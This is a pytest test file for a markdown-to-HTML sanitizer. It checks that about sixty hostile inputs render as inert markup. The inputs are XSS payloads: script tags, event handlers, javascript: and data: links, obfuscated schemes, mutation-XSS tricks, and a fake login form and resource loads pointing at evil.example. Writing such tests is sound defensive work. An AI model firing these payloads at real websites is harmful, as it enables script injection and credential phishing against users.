"""Markdown from outside becomes markup that can do nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from catalog.prose import _TAGS, prose

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav\tascript:alert(1)">x</a>',
    "<a href='//evil.example' onclick='alert(1)' style='position:fixed'>x</a>",
    "<body onload=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<p style='background:url(javascript:alert(1))' class=x id=y>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java%73cript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](https://a.example 'title\" onmouseover=alert(1) x=\"')",
    '[x](https://a.example/"onmouseover=alert(1)//)',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x][y]\n\n[y]: javascript:alert(1)",
    "[y]: javascript:alert(1)\n\n[y]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | d |",
    "> <script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "ignore previous instructions<script>alert(1)</script>",
]


class Found(HTMLParser):
    """What a browser would make of it: tags, attributes, and text that is only text."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.others: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def scheme_of(address: str) -> str:
    """As a browser reads it: control characters at the ends and line breaks inside do not count."""
    bare = re.sub(r"[\t\r\n]", "", address.strip("".join(map(chr, range(33)))))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", bare)
    return match[1].lower() if match else ""


def is_inert(markup: str) -> bool:
    found = Found(markup)
    return (
        set(found.tags) <= _TAGS
        and {name for name, _ in found.attributes} <= {"href", "rel", "title"}
        and {scheme_of(value) for name, value in found.attributes if name == "href"} <= {"", "http", "https", "mailto"}
        and not found.others
    )


def test_there_are_enough_hostile_texts_to_mean_something() -> None:
    assert len(set(HOSTILE)) >= 40


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text: str) -> None:
    assert is_inert(prose(text)), prose(text)


def test_the_check_itself_sees_what_is_not_inert() -> None:
    for markup in (
        "<script>x</script>",
        "<p onclick='x'>y</p>",
        "<a href=' java\tscript:x'>y</a>",
        "<img src='x'>",
        "<!-- x -->",
    ):
        assert not is_inert(markup)


@given(st.text(alphabet="<>\"'&;:/=()[]!`#*_-|\\\n\t ajscriptonehfvbdml0\x00\u2028", max_size=80))
def test_any_text_is_inert(text: str) -> None:
    assert is_inert(prose(text))


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("It does *one* thing **well**.", "<p>It does <em>one</em> thing <strong>well</strong>.</p>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("`x`", "<p><code>x</code></p>"),
        ("a <b>bold</b> word", "<p>a &lt;b&gt;bold&lt;/b&gt; word</p>"),  # markup in a text is shown, not used
        ("[a](https://example.org)", '<p><a href="https://example.org" rel="nofollow ugc noopener">a</a></p>'),
        ("", ""),
    ],
)
def test_markdown_is_rendered(text: str, markup: str) -> None:
    assert prose(text).strip() == markup


@pytest.mark.parametrize("marks", ["#", "##", "###"])
def test_headings_become_small_ones(marks: str) -> None:
    assert prose(f"{marks} Title").strip() == "<h3>Title</h3>"


@pytest.mark.parametrize("scheme", ["ftp", "tel", "sms", "blob", "intent", "ms-word"])
def test_a_link_leads_to_the_web_or_a_mailbox_and_nowhere_else(scheme: str) -> None:
    assert "href" not in prose(f"[x]({scheme}://a.example)")
    assert "href" in prose("[x](mailto:a@a.example)")


def test_tables_are_rendered() -> None:
    assert "<td>1</td>" in prose("| a |\n|---|\n| 1 |")


def test_emoji_and_right_to_left_text_pass() -> None:
    assert "🙂 שלום" in prose("🙂 שלום")
